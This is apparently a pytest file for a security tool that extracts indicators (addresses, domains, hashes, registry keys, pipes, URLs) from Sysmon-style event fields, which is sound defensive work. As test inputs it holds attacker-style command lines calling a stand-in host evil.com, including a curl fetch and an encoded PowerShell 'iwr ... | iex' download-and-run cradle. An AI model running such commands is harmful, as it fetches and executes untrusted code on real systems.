"""Typed fields of events, silent fields, and layers."""

from __future__ import annotations

from cybersecqwen.detect.decode import decode
from cybersecqwen.detect.text import event_indicators
from cybersecqwen.records import Category, Event, Indicator, Limits, Source
from tests.detect.decode.encoders import b64_utf16

from .lines import MD5, SHA256


def event(**fields: str) -> Event:
    return Event(id="e7", category=Category.PROCESS, fields=fields, source=Source(path="-"))


def found(*args: object, **fields: str) -> set[tuple[str, str]]:
    return {(i.type, i.value) for i in event_indicators(event(**fields))}


def only(one: Event) -> Indicator:
    (indicator,) = event_indicators(one)
    return indicator


def test_addresses_and_their_notes() -> None:
    indicator = only(event(DestinationIp="::ffff:10.0.0.5"))
    assert (indicator.type, indicator.value, indicator.note) == (
        "ipv4",
        "10.0.0.5",
        "private address (RFC 1918)",
    )
    assert indicator.raw == "::ffff:10.0.0.5"
    assert found(SourceIp="fe80:0:0:0:1:2:3:4") == {("ipv6", "fe80::1:2:3:4")}
    assert found(sourceIPAddress="cloudtrail.amazonaws.com") == set()
    assert found(IpAddress="-") == set()


def test_names_that_only_dns_would_take() -> None:
    assert found(QueryName="DC01.corp.local.") == {("domain", "dc01.corp.local")}
    assert found(QueryName="setup.exe.evil.com") == {("domain", "setup.exe.evil.com")}
    assert found(QueryName="wpad") == set()


def test_dns_answers() -> None:
    text = "type:  5 cdn.evil.com;::ffff:45.77.12.9;2a00:1450::1;"
    expected = {("domain", "cdn.evil.com"), ("ipv4", "45.77.12.9"), ("ipv6", "2a00:1450::1")}
    assert found(QueryResults=text) == expected


def test_hashes_of_sysmon() -> None:
    text = f"MD5={MD5.upper()},SHA256={SHA256},IMPHASH=00000000000000000000000000000000"
    by_type = {i.type: i for i in event_indicators(event(Hashes=text))}
    assert by_type["md5"].value == MD5
    assert by_type["md5"].raw == MD5.upper()
    assert by_type["sha256"].value == SHA256
    assert by_type["imphash"].note == "not computed"
    assert found(Hashes="SHA1=" + MD5) == set()


def test_paths_keys_and_pipes() -> None:
    assert found(TargetFilename="C:\\Users\\bob\\my file.docx") == {("file", "C:\\Users\\bob\\my file.docx")}
    key = "HKU\\S-1-5-21-1\\Software\\Some Key\\Value (x)"
    assert found(TargetObject=key) == {("registry", key)}
    assert found(PipeName="\\MSSE-12-server") == {("pipe", "\\\\.\\pipe\\msse-12-server")}
    assert found(PipeName="<Anonymous Pipe>") == set()


def test_fields_without_indicators_are_silent() -> None:
    assert found(FileVersion="10.0.19041.1", UtcTime="2024-01-01 10:00:00.000", Company="Evil.com") == set()
    assert found(ProcessGuid="{6f9619ff-8b86-d011-b42d-00cf4fc964ff}", EventVersion="1.08.1.2") == set()


def test_free_text_and_dotted_names() -> None:
    assert found(CommandLine="curl http://evil.com/a") == {
        ("url", "http://evil.com/a"),
        ("domain", "evil.com"),
    }
    assert found(**{"requestParameters.url": "https://evil.com/x"}) >= {("domain", "evil.com")}
    assert found(**{"source.ip": "45.77.12.9"}) == {("ipv4", "45.77.12.9")}


def test_layers_name_field_and_how() -> None:
    hidden = "iwr http://evil.com/a.ps1 | iex"
    one = event(CommandLine=f"powershell -enc {b64_utf16(hidden)}", Image="C:\\Users\\bob\\p.exe")
    layers = decode(one.get("CommandLine"), Limits())
    url = next(i for i in event_indicators(one, layers) if i.type == "url")
    assert (url.evidence.field, url.evidence.layer) == ("CommandLine", "-EncodedCommand base64 > utf-16")
    assert url.raw in layers[0].text


def test_each_value_once_and_recorded_text_first() -> None:
    one = event(DestinationIp="45.77.12.9", CommandLine="ping 45.77.12.9")
    assert [(i.evidence.field, i.value) for i in event_indicators(one)] == [("DestinationIp", "45.77.12.9")]


def test_raw_stands_in_the_field_that_evidence_names() -> None:
    fields = {
        "QueryResults": "type:  5 cdn.evil.com;::ffff:45.77.12.9;",
        "Hashes": f"MD5={MD5},SHA256={SHA256}",
        "Image": '"C:\\Users\\bob\\a.exe"',
        "Message": "hxxp://evil[.]com and bob[at]evil.com",
    }
    for indicator in event_indicators(event(**fields)):
        assert indicator.raw in fields[indicator.evidence.field]
        assert indicator.evidence.event == "e7"
